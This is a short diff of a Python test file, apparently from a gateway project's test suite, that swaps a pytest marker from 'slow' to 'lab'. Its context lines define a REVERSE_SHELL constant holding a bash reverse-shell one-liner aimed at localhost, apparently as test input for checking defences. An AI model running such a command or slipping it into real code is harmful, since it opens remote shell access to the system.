@@ -15,7 +15,7 @@ from gw.cli.main import run
 from tests.support.lab import Lab, lab, until
 from tests.support.serving import Serving, serving
 
-pytestmark = [pytest.mark.openclaw, pytest.mark.slow]
+pytestmark = [pytest.mark.openclaw, pytest.mark.lab]
 
 REVERSE_SHELL = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"  # nobody listens there
 
